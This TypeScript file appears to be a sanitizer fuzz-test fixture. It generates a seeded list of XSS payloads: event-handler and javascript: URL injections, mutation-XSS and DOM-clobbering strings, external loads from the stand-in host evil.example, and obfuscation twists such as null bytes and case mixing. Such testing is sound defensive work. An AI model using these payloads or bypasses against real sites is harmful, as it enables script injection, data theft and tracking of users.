/**
 * HTML that tries to run `window.hit = 1` or to reach evil.example: known attacks, wrapped and obfuscated with seeded
 * randomness.
 */
const RUN = 'window.hit=1';

const KNOWN: readonly string[] = [
  ...['img', 'image', 'video', 'audio', 'source', 'input type=image'].map((tag) => `<${tag} src=x onerror=${RUN}>`),
  ...['svg', 'body', 'iframe', 'style', 'marquee', 'object', 'embed'].map((tag) => `<${tag} onload=${RUN}>`),
  ...['a', 'b', 'p', 'div', 'span', 'details open', 'select', 'textarea', 'keygen', 'x'].flatMap((tag) =>
    ['onclick', 'onfocus', 'onpointerenter', 'ontoggle', 'onanimationstart', 'onbegin'].map(
      (handler) => `<${tag} autofocus tabindex=1 style="animation:x 1s" ${handler}="${RUN}">x</${tag.split(' ')[0]}>`,
    ),
  ),
  ...[
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `java\nscript:${RUN}`,
    `java&#9;script:${RUN}`,
    `&#106;avascript:${RUN}`,
    `\u0001javascript:${RUN}`,
    `vbscript:${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `data:image/svg+xml,<svg onload=${RUN}>`,
    '//evil.example/x',
    '/\\evil.example/x',
    'blob:x',
    `feed:javascript:${RUN}`,
  ].flatMap((address) => [
    `<a href="${address}">x</a>`,
    `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
    `<math><mi href="${address}">x</mi></math>`,
    `<form action="${address}"><button>x</button></form>`,
    `<iframe src="${address}"></iframe>`,
    `<object data="${address}"></object>`,
    `<embed src="${address}">`,
    `<base href="${address}">`,
    `<meta http-equiv=refresh content="0;url=${address}">`,
    `<button formaction="${address}">x</button>`,
  ]),
  `<script>${RUN}</script>`,
  '<script src=https://evil.example/x.js></script>',
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${RUN}>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  '<svg><use href="data:image/svg+xml,<svg id=x><image href=1 onerror=window.hit=1 /></svg>#x"></use></svg>',
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
  `<title><a title="</title><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<xmp><p title="</xmp><svg/onload=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml ><img src=x onerror=${RUN}>?>`,
  '<img src=https://evil.example/pixel.gif>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<link rel=prefetch href=https://evil.example/x>',
  '<style>@import "https://evil.example/x.css";*{background:url(https://evil.example/x)}</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p background="https://evil.example/x">x</p>',
  '<video poster="https://evil.example/x"></video>',
  '<form id=attributes><input name=attributes><input name=nodeName></form>',
  '<form name=body><input name=parentNode><input name=removeChild></form>',
  '<a id=location href="https://evil.example">x</a><a id=location name=href>x</a>',
  '<img name=createElement><img name=getElementById>',
  `<a href="https://example.org" onclick=${RUN} target=_self rel=opener ping=https://evil.example>x</a>`,
];

/** Ways to wrap and obfuscate. */
const TWISTS: readonly ((html: string, roll: () => number) => string)[] = [
  (html) => `<div>${html}</div>`,
  (html) => `<p>${html}`,
  (html) => `<svg>${html}</svg>`,
  (html) => `<math><annotation-xml encoding="text/html">${html}</annotation-xml></math>`,
  (html) => `<table><tr><td>${html}`,
  (html) => `<select><option>${html}</select>`,
  (html) => `</p></div></article>${html}`,
  (html) => `<a href="https://example.org">${html}</a>`,
  (html) => `<b title='${html.replaceAll("'", '&#39;')}'>${html}</b>`,
  (html, roll) =>
    html
      .replace(/[a-z]/g, (letter) => (roll() < 0.4 ? letter.toUpperCase() : letter))
      .replaceAll(/window\.hit=1/gi, RUN),
  (html) => html.replaceAll(' ', '/'),
  (html) => html.replaceAll(' ', '\u000c'),
  (html) => html.replaceAll('=', ' = '),
  (html) => html.replaceAll('<', '<\u0000'),
  (html) => `${html}${html}`,
  (html) => `<!-- ${html} --!>${html}`,
  (html) => `&lt;${html}`,
  (html) => '<i>'.repeat(200) + html,
];

/** All known attacks, filled up with mutated ones; the same in every run. */
export function hostilePayloads(count: number): readonly string[] {
  let state = 20_260_115;
  const roll = () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state / 2 ** 32;
  };
  const pick = <T>(from: readonly T[]): T => from[Math.floor(roll() * from.length)]!;
  const payloads = [...KNOWN];
  while (payloads.length < count) {
    let html = pick(KNOWN);
    for (let twist = 0; twist < 1 + Math.floor(roll() * 3); twist += 1) html = pick(TWISTS)(html, roll);
    payloads.push(html);
  }
  return payloads.slice(0, Math.max(count, KNOWN.length));
}
